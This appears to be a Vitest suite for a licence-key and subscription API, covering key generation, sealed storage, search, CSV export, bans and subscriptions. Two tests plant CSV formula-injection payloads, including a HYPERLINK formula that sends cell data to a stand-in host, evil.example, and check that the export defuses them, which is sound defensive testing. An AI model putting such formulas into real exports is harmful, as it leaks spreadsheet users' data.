import { eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import {
  DEFAULT_LICENSE_KEY_MASK,
  appUserListSchema,
  LICENSE_COUNT_RANGE,
  LICENSE_PLAN_ARCHIVED,
  PLAN_IN_USE,
  SEARCH_COUNT_LIMIT,
  licenseCsvColumns,
  licenseKeyAlphabets,
  licenseListSchema,
  licenseSchema,
  pagingHeaders,
  revealedLicenseSchema,
  subscriptionListSchema,
} from '@latchkey/contracts';
import { activityLogs, licenseKeys } from '../../db/schema/index.ts';
import { createManualClock } from '../../lib/clock.ts';
import { sealLicenseKey } from './license-key-secrets.ts';
import {
  createApplicationViaApi,
  createAppUserViaApi,
  createPlanViaApi,
  generateLicensesViaApi,
  grantSubscriptionViaApi,
} from '../../../test/factories.ts';
import { signInOwnerForSuite, startTestAppForSuite } from '../../../test/suite-test-app.ts';
import { ownerRequests } from '../../../test/owner-requests.ts';

describe('owner API: licence keys and subscriptions', () => {
  const clock = createManualClock(new Date('2026-05-01T09:00:00Z'));

  const testApp = startTestAppForSuite({ clock });
  const owner = signInOwnerForSuite(testApp);

  const request = ownerRequests(testApp, owner);

  const newApplicationWithPlan = async (plan: { durationDays?: number | null } = {}) => {
    const application = await createApplicationViaApi(testApp.app, owner);
    const created = await createPlanViaApi(testApp.app, owner, application.id, {
      durationDays: 30,
      entitlements: ['PRO'],
      ...plan,
    });
    return { applicationId: application.id, planId: created.id };
  };

  const listKeys = async (applicationId: number, query = '') => {
    const response = await request('GET', `/api/applications/${applicationId}/licenses${query}`);
    expect(response.statusCode, response.body).toBe(200);
    return {
      keys: licenseListSchema.parse(response.json()),
      total: Number(response.headers[pagingHeaders.totalCount]),
      isTotalCapped: response.headers[pagingHeaders.totalCountCapped] === 'true',
    };
  };

  it('generates keys from the mask, in the case asked, each shown once whole', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const upper = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId,
      count: 25,
    });
    expect(upper).toHaveLength(25);
    expect(new Set(upper.map((key) => key.key)).size).toBe(25);
    const upperAlphabet = `[${licenseKeyAlphabets.upper}]{5}`;
    for (const { key } of upper) {
      expect(key).toMatch(new RegExp(`^${Array(5).fill(upperAlphabet).join('-')}$`));
    }
    const [lower] = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId,
      mask: 'SHOP-XXXXXXXXXXXXXXXXXXXX',
      case: 'lower',
    });
    expect(lower!.key).toMatch(new RegExp(`^SHOP-[${licenseKeyAlphabets.lower}]{20}$`));
    expect(DEFAULT_LICENSE_KEY_MASK).toBe('XXXXX-XXXXX-XXXXX-XXXXX-XXXXX');
  });

  it('refuses a weak mask, a bad count, a past redeem-by date and an archived plan', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const url = `/api/applications/${applicationId}/licenses`;
    const weak = await request('POST', url, { planId, count: 1, mask: 'XXXX-XXXX-XXXX' });
    expect(weak.statusCode).toBe(400);
    expect(weak.json().message).toMatch(/at least 16 X characters/);
    for (const count of [0, 10_001, 1.5]) {
      const response = await request('POST', url, { planId, count });
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toContain(LICENSE_COUNT_RANGE);
    }
    const past = await request('POST', url, {
      planId,
      count: 1,
      redeemBy: new Date(clock.now().getTime() - 1000).toISOString(),
    });
    expect(past.statusCode).toBe(400);
    await request('PUT', `/api/applications/${applicationId}/plans/${planId}`, { archived: true });
    const archived = await request('POST', url, { planId, count: 1 });
    expect(archived.statusCode).toBe(409);
    expect(archived.json().message).toBe(LICENSE_PLAN_ARCHIVED);
  });

  it('keeps no key in plain text: a digest and a sealed copy, shown whole only on reveal', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const [generated] = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId,
      note: 'for the shop',
    });
    const { key } = generated!;
    const [row] = await testApp.database.db
      .select()
      .from(licenseKeys)
      .where(eq(licenseKeys.id, generated!.id));
    const stored = JSON.stringify(row);
    const randomPart = key.replace(/-/g, '');
    expect(stored).not.toContain(key);
    expect(stored).not.toContain(randomPart);
    expect(stored).not.toContain(randomPart.slice(0, 12));
    // The whole database, as a dump would have it.
    const dump = await testApp.database.query({
      text: `select string_agg(row_to_json(k)::text, '') as text from license_keys k`,
    });
    expect(String(dump.rows[0]!.text)).toContain(generated!.id);
    expect(String(dump.rows[0]!.text)).not.toContain(randomPart.slice(0, 12));

    const { keys } = await listKeys(applicationId);
    expect(keys).toHaveLength(1);
    const listed = licenseSchema.parse(keys[0]);
    expect(listed.key).toBe(`${key.slice(0, 5)}-•••••-•••••-•••••-•${key.slice(-4)}`);
    expect(listed).toMatchObject({ status: 'unused', note: 'for the shop', planId });

    const revealed = await request(
      'GET',
      `/api/applications/${applicationId}/licenses/${generated!.id}/key`,
    );
    expect(revealed.statusCode).toBe(200);
    expect(revealedLicenseSchema.parse(revealed.json()).key).toBe(key);
  });

  it('lists newest first, filters by status and plan, and searches by key, suffix and note', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const other = await createPlanViaApi(testApp.app, owner, applicationId, { name: 'Other' });
    const first = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId,
      count: 3,
      note: 'batch one',
    });
    clock.advance(1000);
    const second = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId: other.id,
      count: 2,
      note: 'batch two',
      redeemBy: new Date(clock.now().getTime() + 60_000).toISOString(),
    });
    const all = await listKeys(applicationId);
    expect(all.total).toBe(5);
    expect(
      all.keys
        .slice(0, 2)
        .map((key) => key.id)
        .sort(),
    ).toEqual(second.map((key) => key.id).sort());
    expect((await listKeys(applicationId, `?planId=${other.id}`)).total).toBe(2);
    expect((await listKeys(applicationId, '?search=batch%20one')).total).toBe(3);
    const byKey = await listKeys(applicationId, `?search=${first[1]!.key}`);
    expect(byKey.keys.map((key) => key.id)).toEqual([first[1]!.id]);
    const bySuffix = await listKeys(applicationId, `?search=${first[2]!.key.slice(-4)}`);
    expect(bySuffix.keys.map((key) => key.id)).toContain(first[2]!.id);
    const page = await listKeys(applicationId, '?page=2&pageSize=2');
    expect(page.keys).toHaveLength(2);
    expect(page.total).toBe(5);

    // Past the redeem-by date an unused key is "expired".
    clock.advance(120_000);
    const expired = await listKeys(applicationId, '?status=expired');
    expect(expired.keys.map((key) => key.id).sort()).toEqual(second.map((key) => key.id).sort());
    expect(expired.keys.every((key) => key.status === 'expired')).toBe(true);
    expect((await listKeys(applicationId, '?status=unused')).total).toBe(3);
  });

  it(`searches by holder too, counts each key once, and past ${SEARCH_COUNT_LIMIT} matches walks newest first`, async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const holder = await createAppUserViaApi(testApp.app, owner, applicationId, {
      username: 'bulk-holder',
    });
    // One more match than the limit, newest last, inserted as rows (10,001 keys through the
    // API would cost the suite seconds); the newest is used by a user whose name also matches,
    // so two of the four lookups find it.
    await testApp.database.db.execute(sql`
      insert into license_keys (application_id, plan_id, key_digest, key_sealed, display,
                                key_suffix, note, state, used_by_user_id, used_at, created_at)
      select ${applicationId}::int, ${planId}::uuid, 'digest-' || i, 'sealed', 'display', 'zz' || i,
             'bulk ' || i, case when i = ${SEARCH_COUNT_LIMIT + 1}::int then 'used' else 'unused' end,
             case when i = ${SEARCH_COUNT_LIMIT + 1}::int then ${holder.id}::uuid end,
             case when i = ${SEARCH_COUNT_LIMIT + 1}::int then now() end,
             timestamptz '2026-04-01T00:00:00Z' + i * interval '1 second'
      from generate_series(1, ${SEARCH_COUNT_LIMIT + 1}::int) as i`);
    const newest = `bulk ${SEARCH_COUNT_LIMIT + 1}`;

    const broad = await listKeys(applicationId, '?search=bulk&pageSize=3');
    expect([broad.total, broad.isTotalCapped]).toEqual([SEARCH_COUNT_LIMIT, true]);
    expect(broad.keys.map((key) => key.note)).toEqual([
      newest,
      `bulk ${SEARCH_COUNT_LIMIT}`,
      `bulk ${SEARCH_COUNT_LIMIT - 1}`,
    ]);
    const deeper = await listKeys(applicationId, '?search=bulk&page=1000&pageSize=10');
    expect(deeper.keys.map((key) => key.note)).toEqual(
      Array.from({ length: 10 }, (_, index) => `bulk ${SEARCH_COUNT_LIMIT + 1 - 9990 - index}`),
    );

    // Under the limit: found by the indexed lookups, each key once though it matches twice.
    const byHolder = await listKeys(applicationId, '?search=holder');
    expect(byHolder.keys.map((key) => key.note)).toEqual([newest]);
    expect(byHolder.keys[0]!.usedByUsername).toBe('bulk-holder');
    const twice = await listKeys(applicationId, `?search=${encodeURIComponent(newest)}`);
    expect([twice.total, twice.isTotalCapped, twice.keys.length]).toEqual([1, false, 1]);
    const usedOnly = await listKeys(applicationId, '?search=bulk&status=used');
    expect([usedOnly.total, usedOnly.keys.map((key) => key.note)]).toEqual([1, [newest]]);
    // A page past the last of a few matches is empty and still knows the total.
    const past = await listKeys(applicationId, '?search=holder&page=3');
    expect([past.total, past.keys]).toEqual([1, []]);
  });

  it('exports the whole keys as CSV with the list filters, header first', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const keys = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId,
      count: 3,
      note: '=cmd|, "quoted"',
    });
    const response = await request('GET', `/api/applications/${applicationId}/licenses/export.csv`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/^text\/csv/);
    const lines = response.body.trimEnd().split('\r\n');
    expect(lines[0]).toBe(licenseCsvColumns.join(','));
    expect(lines).toHaveLength(4);
    for (const { key, id } of keys) {
      const line = lines.find((candidate) => candidate.startsWith(`${id},`));
      expect(line).toContain(`,${key},`);
      // A note a spreadsheet would run as a formula is defused, and quoted.
      expect(line).toContain(`"'=cmd|, ""quoted"""`);
    }
    const none = await request(
      'GET',
      `/api/applications/${applicationId}/licenses/export.csv?status=used`,
    );
    expect(none.body.trimEnd().split('\r\n')).toHaveLength(1);
  });

  it('defuses imported keys a spreadsheet would run as formulas', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const keys = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId,
      count: 3,
    });
    // What a hostile KeyAuth export can carry as keys: the importer keeps any text as found.
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)', '-2+3'];
    for (const [index, text] of hostile.entries()) {
      await testApp.database.db
        .update(licenseKeys)
        .set({ keySealed: sealLicenseKey(text, testApp.config.serverSecret) })
        .where(eq(licenseKeys.id, keys[index]!.id));
    }
    const response = await request('GET', `/api/applications/${applicationId}/licenses/export.csv`);
    const lines = response.body.trimEnd().split('\r\n').slice(1);
    const keyCells = lines.map((line) => line.slice(line.indexOf(',') + 1));
    expect(
      keyCells.some((cell) => cell.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1`)),
    ).toBe(true);
    expect(keyCells.some((cell) => cell.startsWith(`'@SUM(1+1),`))).toBe(true);
    expect(keyCells.some((cell) => cell.startsWith(`'-2+3,`))).toBe(true);
    // No cell of the file starts a formula.
    for (const line of lines) {
      for (const cell of line.split(',')) expect(cell, line).not.toMatch(/^"?[=+\-@]/);
    }
  });

  it('exports every key once across its batches, however many there are', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    // Batches of 1,000 rows, walked by (created_at, id): three generations at three times.
    const generated = [];
    for (const count of [1_200, 900, 400]) {
      generated.push(
        ...(await generateLicensesViaApi(testApp.app, owner, applicationId, { planId, count })),
      );
      clock.advance(1000);
    }
    const response = await request('GET', `/api/applications/${applicationId}/licenses/export.csv`);
    const lines = response.body.trimEnd().split('\r\n').slice(1);
    const exported = lines.map((line) => line.split(',')[0]);
    expect(exported).toHaveLength(2_500);
    expect(new Set(exported)).toEqual(new Set(generated.map((key) => key.id)));
  });

  it('bans and unbans an unused key (idempotently), deletes one, and deletes all unused of a plan', async () => {
    const { applicationId, planId } = await newApplicationWithPlan();
    const keys = await generateLicensesViaApi(testApp.app, owner, applicationId, {
      planId,
      count: 4,
    });
    const keyUrl = (id: string) => `/api/applications/${applicationId}/licenses/${id}`;
    const banned = await request('POST', `${keyUrl(keys[0]!.id)}/ban`, { reason: 'leaked' });
    expect(banned.statusCode).toBe(200);
    expect(banned.json()).toMatchObject({ status: 'banned', bannedReason: 'leaked' });
    const again = await request('POST', `${keyUrl(keys[0]!.id)}/ban`, { reason: 'resold' });
    expect(again.json()).toMatchObject({ status: 'banned', bannedReason: 'resold' });
    const blank = await request('POST', `${keyUrl(keys[0]!.id)}/ban`, { reason: '  ' });
    expect(blank.statusCode).toBe(400);
    const [logged] = await testApp.database.db
      .select()
      .from(activityLogs)
      .where(eq(activityLogs.event, 'license_banned'));
    expect(logged).toMatchObject({ applicationId, success: true });
    expect(JSON.stringify(logged)).not.toContain(keys[0]!.key);

    const unbanned = await request('POST', `${keyUrl(keys[0]!.id)}/unban`);
    expect(unbanned.json()).toMatchObject({ status: 'unused', bannedReason: null });
    expect((await request('POST', `${keyUrl(keys[0]!.id)}/unban`)).json()).toMatchObject({
      status: 'unused',
    });

    expect((await request('DELETE', keyUrl(keys[1]!.id))).statusCode).toBe(200);
    expect((await request('DELETE', keyUrl(keys[1]!.id))).statusCode).toBe(404);

    const stats = await request('GET', `/api/applications/${applicationId}/stats`);
    expect(stats.json()).toMatchObject({ unusedLicenses: 3, usedLicenses: 0 });

    const inUse = await request('DELETE', `/api/applications/${applicationId}/plans/${planId}`);
    expect(inUse.statusCode).toBe(409);
    expect(inUse.json().message).toBe(PLAN_IN_USE);
    const deleted = await request(
      'POST',
      `/api/applications/${applicationId}/plans/${planId}/delete-unused`,
    );
    expect(deleted.json()).toMatchObject({
      deletedCount: 3,
      message: '3 unused licence keys deleted',
    });
    expect((await listKeys(applicationId)).total).toBe(0);
    const stats2 = await request('GET', `/api/applications/${applicationId}/stats`);
    expect(stats2.json()).toMatchObject({ unusedLicenses: 0, usedLicenses: 0 });
    // No key and no subscription left: the plan can go.
    expect(
      (await request('DELETE', `/api/applications/${applicationId}/plans/${planId}`)).statusCode,
    ).toBe(200);
  });

  it('grants, extends, shortens and removes a subscription; entitlements come from active ones', async () => {
    const { applicationId, planId } = await newApplicationWithPlan({ durationDays: 30 });
    const lifetime = await createPlanViaApi(testApp.app, owner, applicationId, {
      name: 'Lifetime',
      durationDays: null,
      entitlements: ['EXPORT_PDF'],
    });
    const user = await createAppUserViaApi(testApp.app, owner, applicationId);
    const ids = { applicationId, userId: user.id };
    const [granted] = await grantSubscriptionViaApi(testApp.app, owner, ids, { planId });
    const thirtyDays = new Date(clock.now().getTime() + 30 * 86_400_000).toISOString();
    expect(granted).toMatchObject({ planId, expiresAt: thirtyDays, isActive: true });
    const base = `/api/applications/${applicationId}/users/${user.id}/subscriptions`;
    const duplicate = await request('POST', base, { planId });
    expect(duplicate.statusCode).toBe(409);

    const withLifetime = await grantSubscriptionViaApi(testApp.app, owner, ids, {
      planId: lifetime.id,
    });
    expect(withLifetime.map((s) => s.planName)).toEqual(['Lifetime', granted!.planName]);
    expect(withLifetime[0]).toMatchObject({ expiresAt: null, entitlements: ['EXPORT_PDF'] });

    const shortened = await request('PUT', `${base}/${granted!.id}`, {
      expiresAt: new Date(clock.now().getTime() - 1000).toISOString(),
    });
    expect(shortened.statusCode).toBe(200);
    const afterShortening = subscriptionListSchema.parse(shortened.json());
    expect(afterShortening.find((s) => s.id === granted!.id)!.isActive).toBe(false);

    // The users list carries each user's subscriptions (active or not) and active entitlements.
    const listed = await request('GET', `/api/applications/${applicationId}/users`);
    const [row] = appUserListSchema.parse(listed.json());
    expect(row!.subscriptions.map((s) => [s.planName, s.isActive])).toEqual([
      ['Lifetime', true],
      [granted!.planName, false],
    ]);
    expect(row!.entitlements).toEqual(['EXPORT_PDF']);

    const removed = await request('DELETE', `${base}/${granted!.id}`);
    expect(subscriptionListSchema.parse(removed.json()).map((s) => s.planId)).toEqual([
      lifetime.id,
    ]);
    expect((await request('DELETE', `${base}/${granted!.id}`)).statusCode).toBe(404);
  });
});
